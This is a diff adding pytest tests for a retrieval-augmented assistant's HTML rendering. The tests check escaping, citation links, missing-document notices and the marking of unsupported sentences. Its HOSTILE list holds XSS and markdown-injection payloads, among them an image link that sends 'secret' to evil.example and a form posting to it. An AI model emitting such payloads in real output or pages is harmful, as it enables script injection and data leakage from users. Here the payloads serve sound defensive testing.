@@ -1,0 +1,128 @@
+"""What an answer becomes on the page: links that lead to quotations, and nothing that a document brought along."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from rag import Assistant
+from rag.types import Answer, Citation, Document, Notice, Sentence
+from ui.render import Exchange, answer_html, escape, panel_html
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![leak](http://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "[ref]: http://evil.example 'x'",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<form action=http://evil.example><input></form>",
+    "<svg/onload=alert(1)>",
+    "<style>@import 'http://evil.example/x.css'</style>",
+    "</blockquote></details><iframe src=//evil.example></iframe>",
+    "\n\n# heading\n\n* item\n\n`code` $x$ ~~gone~~ https://evil.example",
+    '" onmouseover="alert(1)',
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
+    "&lt;script&gt; &#60;b&#62;",
+]
+OURS = {
+    "div",
+    "span",
+    "a",
+    "q",
+    "small",
+    "h2",
+    "h3",
+    "section",
+    "details",
+    "summary",
+    "p",
+    "blockquote",
+    "mark",
+    "b",
+    "br",
+}
+
+
+class Reader(HTMLParser):
+    """Collects the tags, the attributes and the text of a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def read(html: str) -> Reader:
+    reader = Reader()
+    reader.feed(html)
+    return reader
+
+
+def answer(words: str) -> Answer:
+    citation = Citation(1, "d", words, words, None, "en", words, 0, len(words), words)
+    sentences = [
+        Sentence(words, "en", True, [1], "supported", None),
+        Sentence(words, "en", False, [1], "unsupported", words),
+    ]
+    notices = [Notice("x", words)]
+    return Answer(words, "en", "answered", words, sentences, [citation], [], notices, None, None, {})
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_hostile_words_stay_words(words: str) -> None:
+    made = answer(words)
+    panel = panel_html([Exchange(1, words, made)], lambda id: Document(id="d", text=words), "en")
+    for html in (answer_html(made, 1, "en"), panel):
+        reader = read(html)
+        assert {tag for tag, _ in reader.tags} <= OURS
+        for _, attributes in reader.tags:
+            assert attributes.keys() <= {"class", "href", "id", "lang", "tabindex"}
+            assert (attributes.get("href") or "#").startswith("#")
+        assert words.replace("\n", "") in reader.text
+        # Nothing is left that Markdown could take for its own, outside our tags and the [1] of our links.
+        bare = re.sub(r"\[1\]|&#\d+;|<[^>]*>", "", html)
+        assert not set("!*`[]_~$<>") & set(bare)
+
+
+def test_escape() -> None:
+    assert escape("a<b>*c*\n[1]") == "a&#60;b&#62;&#42;c&#42;<br>&#91;1&#93;"
+    assert escape("Жапаров — №5") == "Жапаров — №5"
+
+
+def test_a_citation_leads_to_its_quotation(seeds: Assistant) -> None:
+    asked = seeds.ask("How many new enterprises opened in 2025?")
+    links = [a["href"] for tag, a in read(answer_html(asked, 3, "en")).tags if tag == "a"]
+    panel = panel_html([Exchange(3, asked.question, asked)], seeds.show, "en")
+    ids = [a["id"] for tag, a in read(panel).tags if tag == "details"]
+    assert links
+    assert {link for link in links if link} == {f"#{id}" for id in ids}
+    marked = panel.split("<mark>")[1].split("</mark>")[0]
+    assert marked == escape(asked.citations[0].quote)
+
+
+def test_a_document_that_is_gone_is_said_to_be() -> None:
+    panel = panel_html([Exchange(1, "q", answer("words"))], lambda id: None, "ru")
+    assert escape("Этого документа в библиотеке больше нет.") in panel
+
+
+def test_a_source_on_the_web_is_linked_without_a_trace(seeds: Assistant) -> None:
+    asked = seeds.ask("When did the foreign minister of Kyrgyzstan visit Russia?")
+    panel = panel_html([Exchange(1, "q", asked)], seeds.show, "en")
+    links = [a for tag, a in read(panel).tags if tag == "a"]
+    assert {link["href"] for link in links} == {"https://www.mid.ru/ru/foreign_policy/news/1803158/"}
+    assert all(link["rel"] == "noopener noreferrer" for link in links)
+
+
+def test_doubt_is_shown() -> None:
+    html = answer_html(answer("words"), 1, "en")
+    assert 'class="unsupported"' in html
+    assert "not supported by its source" in read(html).text
